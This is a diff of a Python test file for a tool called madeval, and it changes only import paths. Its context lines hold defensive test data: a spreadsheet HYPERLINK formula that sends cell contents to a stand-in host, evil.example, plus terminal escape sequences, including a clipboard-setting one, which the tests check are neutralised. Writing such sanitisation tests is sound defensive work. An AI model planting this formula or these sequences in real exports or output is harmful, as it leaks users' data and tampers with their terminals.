@@ -11,7 +11,7 @@ import sys
 
 import pytest
 
-from madeval.config import DebateConfig, RunSettings
+from madeval.settings.config import DebateConfig, RunSettings
 from helpers import run_quietly
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -73,7 +73,7 @@ def test_hostile_escape_sequences_never_reach_the_terminal(hostile_run):
 
 
 def test_hostile_text_helpers_by_hand():
-    from madeval.shown_text import csv_cell, markdown_cell, terminal_text
+    from madeval.util.shown_text import csv_cell, markdown_cell, terminal_text
 
     assert terminal_text("a\x1b]52;c;eA==\x07b\n\tc\x9b1m\x7f") == "a]52;c;eA==b\n\tc1m"
     assert [csv_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "ok", -0.5, 3)] == [
